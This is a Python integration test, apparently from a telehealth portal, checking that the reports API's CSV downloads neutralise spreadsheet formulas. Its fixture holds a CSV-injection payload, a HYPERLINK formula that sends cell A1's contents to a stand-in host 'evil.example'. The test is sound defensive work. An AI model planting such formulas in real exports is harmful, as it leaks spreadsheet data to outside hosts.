"""The dashboard API's CSV cells never run as formulas (real FerretDB).

Security review (session 28): a2cbc0b wrote the page's CSV downloads (csvfile.download) through
sen_shared.spreadsheet.cell, but the JSON API's ``/api/reports/{section}.csv`` wrote its own rows with a
bare csv.writer: a district as the events carry it (a facility's Organization address, copied into a
consult's events) typed as ``=HYPERLINK(...)`` reached the health department's file as a formula. Those
addresses are written by admins (the province file), so this closes a gap in depth rather than a path a
clinic's or a cashier's account had: the API's file now says what the page's says.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import datetime, timedelta

import pytest
from sen_portal.domain.report_facts import VN
from sen_portal.domain.reporting import record_event
from sen_shared.auth import issue_dev_token

from tests.support import app_client

pytestmark = pytest.mark.integration

TYPED = '=HYPERLINK("https://evil.example/?"&A1,"Xem")'


@pytest.fixture(scope="module")
def portal(base_env, run_id, mongo_client):
    db = f"sen_t{run_id}_portal_report_formulas"
    with app_client("portal", base_env, db, mongo_client) as (client, _app):
        now = datetime.now(VN)
        record_event(mongo_client[db], {"id": str(uuid.uuid4()), "type": "vn.sen.teleconsult.consult.requested.v1",
                                        "time": now.isoformat(), "source": "/sen/test",
                                        "data": {"requester": "Organization/tyt-a", "district": TYPED,
                                                 "priority": "urgent",
                                                 "requestedAt": (now - timedelta(hours=1)).isoformat()}})
        yield client


def test_a_district_typed_as_a_formula_is_text_in_the_apis_csv(portal, dev_key) -> None:
    h = {"Authorization": f"Bearer {issue_dev_token(dev_key, 'health-dept')}"}
    for path, params in (("/api/reports/consults_per_facility_week.csv", {}),
                         ("/api/reports/ehr_coverage.csv", {"district": TYPED})):
        r = portal.get(path, params=params, headers=h)
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        district = rows[0].index("district")
        assert rows[1][district] == "'" + TYPED, (path, rows)
        assert not any(c.startswith("=") for row in rows for c in row), (path, rows)
